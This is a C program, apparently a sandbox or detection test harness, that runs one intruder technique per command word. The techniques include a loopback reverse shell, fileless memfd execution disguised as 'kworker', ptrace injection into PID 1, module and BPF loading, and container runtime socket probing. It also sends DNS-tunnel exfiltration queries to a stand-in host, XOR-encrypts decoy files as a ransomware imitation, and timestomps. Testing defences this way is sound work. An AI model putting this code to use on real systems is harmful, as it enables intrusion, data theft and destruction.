/* What an intruder's toolkit does that no shell can: one system call technique for each word.
   Prints "did WORD: RESULT" (a result below 0 is minus errno: the attempt was made and refused). */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/if_packet.h>
#include <linux/io_uring.h>
#include <linux/keyctl.h>
#include <linux/userfaultfd.h>
#include <net/ethernet.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static long result(long value) { return value < 0 ? -errno : value; }

static int to(int kind, int port)
{
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons(port)};
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    int fd = socket(AF_INET, kind, 0);
    return connect(fd, (struct sockaddr *)&address, sizeof address) ? -1 : fd;
}

static long hello(void) { return getpid(); }

static long memory_run(void)
{
    int self = open("/bin/busybox", O_RDONLY), memory = memfd_create("kworker", 0);
    if (self < 0 || memory < 0)
        return result(-1);
    char block[65536];
    for (ssize_t size; (size = read(self, block, sizeof block)) > 0;)
        if (write(memory, block, size) != size)
            return result(-1);
    char *arguments[] = {"sh", "-c", "readlink /proc/$$/exe; id", NULL}, *environment[] = {"PATH=/bin", NULL};
    pid_t child = fork();
    if (!child) {
        fexecve(memory, arguments, environment);
        _exit(1);
    }
    int status;
    waitpid(child, &status, 0);
    return WEXITSTATUS(status);
}

static long reverse_shell(void)
{
    int fd = to(SOCK_STREAM, 4444);
    if (fd < 0)
        return result(-1);
    pid_t child = fork();
    if (!child) {
        for (int each = 0; each < 3; each++)
            dup2(fd, each);
        execl("/bin/sh", "sh", (char *)NULL);
        _exit(1);
    }
    waitpid(child, NULL, 0);
    return 0;
}

static long inject(void)
{
    long did = ptrace(PTRACE_ATTACH, 1, 0, 0);
    if (did < 0)
        return result(did);
    waitpid(1, NULL, __WALL);
    struct iovec registers = {.iov_base = malloc(4096), .iov_len = 4096};
    ptrace(PTRACE_GETREGSET, 1, 1, &registers);
    unsigned long *words = registers.iov_base, place = words[16];
    long word = ptrace(PTRACE_PEEKTEXT, 1, place, 0);
    ptrace(PTRACE_POKETEXT, 1, place, word);
    return result(ptrace(PTRACE_DETACH, 1, 0, 0));
}

static long read_memory(void)
{
    FILE *maps = fopen("/proc/1/maps", "r");
    unsigned long start = 0;
    if (!maps || fscanf(maps, "%lx", &start) != 1)
        return result(-1);
    char block[4096];
    struct iovec here = {block, sizeof block}, there = {(void *)start, sizeof block};
    return result(process_vm_readv(1, &here, 1, &there, 1, 0));
}

static long new_namespaces(void) { return result(unshare(CLONE_NEWUSER | CLONE_NEWNS)); }

static long enter_namespace(void)
{
    int fd = open("/proc/1/ns/mnt", O_RDONLY);
    return result(setns(fd, CLONE_NEWNS));
}

static long mounts(void)
{
    mkdir("/tmp/.m", 0700);
    long did = result(mount("none", "/tmp/.m", "tmpfs", 0, NULL));
    if (!did)
        umount2("/tmp/.m", MNT_DETACH);
    rmdir("/tmp/.m");
    return did;
}

static long load_module(void)
{
    int fd = open("/bin/busybox", O_RDONLY);
    return result(syscall(SYS_finit_module, fd, "", 0));
}

static long load_bpf(void)
{
    struct bpf_insn program[] = {{.code = BPF_ALU64 | BPF_MOV | BPF_K}, {.code = BPF_JMP | BPF_EXIT}};
    union bpf_attr attributes = {.prog_type = BPF_PROG_TYPE_KPROBE,
                                 .insns = (unsigned long)program,
                                 .insn_cnt = 2,
                                 .license = (unsigned long)"GPL"};
    return result(syscall(SYS_bpf, BPF_PROG_LOAD, &attributes, sizeof attributes));
}

static long uring(void)
{
    struct io_uring_params parameters = {0};
    return result(syscall(SYS_io_uring_setup, 8, &parameters));
}

static long page_faults(void) { return result(syscall(SYS_userfaultfd, O_CLOEXEC)); }

static long keys(void)
{
    long key = syscall(SYS_add_key, "user", "loot", "secret", 6, KEY_SPEC_PROCESS_KEYRING);
    syscall(SYS_keyctl, KEYCTL_DESCRIBE, KEY_SPEC_SESSION_KEYRING, 0, 0, 0);
    return result(key);
}

static long sniff(void) { return result(socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL))); }

static long raw(void) { return result(socket(AF_INET, SOCK_RAW, IPPROTO_TCP)); }

static long become_root(void)
{
    long did = setresuid(0, 0, 0);
    setgid(0);
    return result(did);
}

static long device(void)
{
    long did = result(mknod("/tmp/.sda", S_IFBLK | 0600, makedev(8, 0)));
    int fd = open("/tmp/.sda", O_RDONLY);
    unlink("/tmp/.sda");
    return fd < 0 ? -errno : did;
}

static long runtime_socket(void)
{
    struct sockaddr_un address = {AF_UNIX, "/var/run/docker.sock"};
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    long did = result(connect(fd, (struct sockaddr *)&address, sizeof address));
    strcpy(address.sun_path, "/run/containerd/containerd.sock");
    connect(fd, (struct sockaddr *)&address, sizeof address);
    return did;
}

static long tunnel(void)
{
    int fd = to(SOCK_DGRAM, 5353);
    char query[64];
    for (int each = 0; each < 60; each++) {
        int size = snprintf(query, sizeof query, "%02d.c2VjcmV0LXNlY3JldC1zZWNyZXQ.tunnel.invalid", each);
        if (send(fd, query, size, 0) < 0)
            return result(-1);
        usleep(10000);
    }
    return 0;
}

static long ransom(void)
{
    char name[64], locked[80], block[8192];
    mkdir("/tmp/.victim", 0700);
    for (int each = 0; each < 60; each++) {
        snprintf(name, sizeof name, "/tmp/.victim/%d.doc", each);
        int fd = open(name, O_CREAT | O_WRONLY, 0600);
        memset(block, each, sizeof block);
        if (write(fd, block, sizeof block) < 0)
            return result(-1);
        close(fd);
    }
    for (int each = 0; each < 60; each++) {
        snprintf(name, sizeof name, "/tmp/.victim/%d.doc", each);
        snprintf(locked, sizeof locked, "%s.locked", name);
        int from = open(name, O_RDONLY), out = open(locked, O_CREAT | O_WRONLY, 0600);
        for (ssize_t size; (size = read(from, block, sizeof block)) > 0;) {
            for (ssize_t at = 0; at < size; at++)
                block[at] ^= 0x5a;
            if (write(out, block, size) != size)
                return result(-1);
        }
        fsync(out), close(from), close(out), unlink(name);
    }
    int status = system("rm -r /tmp/.victim");
    return status;
}

static long spawn(void)
{
    for (int each = 0; each < 60; each++)
        if (!fork())
            _exit(usleep(200000));
    while (wait(NULL) > 0)
        continue;
    return 0;
}

static long stomp(void)
{
    int fd = open("/tmp/.old", O_CREAT | O_WRONLY, 0600);
    struct timespec times[2] = {{1000000000, 0}, {1000000000, 0}};
    long did = result(futimens(fd, times));
    unlink("/tmp/.old");
    return did;
}

static long code_page(void)
{
    unsigned char code[] = {0xb8, 39, 0, 0, 0, 0x0f, 0x05, 0xc3};
    void *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    memcpy(page, code, sizeof code);
    mprotect(page, 4096, PROT_READ | PROT_EXEC);
    return ((long (*)(void))page)();
}

static const struct {
    const char *word;
    long (*act)(void);
} ACTS[] = {{"hello", hello},
            {"memory-run", memory_run},
            {"reverse-shell", reverse_shell},
            {"inject", inject},
            {"read-memory", read_memory},
            {"new-namespaces", new_namespaces},
            {"enter-namespace", enter_namespace},
            {"mount", mounts},
            {"load-module", load_module},
            {"load-bpf", load_bpf},
            {"io-uring", uring},
            {"page-faults", page_faults},
            {"keys", keys},
            {"sniff", sniff},
            {"raw-socket", raw},
            {"become-root", become_root},
            {"device", device},
            {"runtime-socket", runtime_socket},
            {"tunnel", tunnel},
            {"ransom", ransom},
            {"spawn", spawn},
            {"stomp", stomp},
            {"code-page", code_page}};

int main(int count, char **words)
{
    for (size_t each = 0; count > 1 && each < sizeof ACTS / sizeof *ACTS; each++)
        if (!strcmp(words[1], ACTS[each].word)) {
            long did = ACTS[each].act();
            printf("did %s: %ld\n", words[1], did);
            return 0;
        }
    return 2;
}
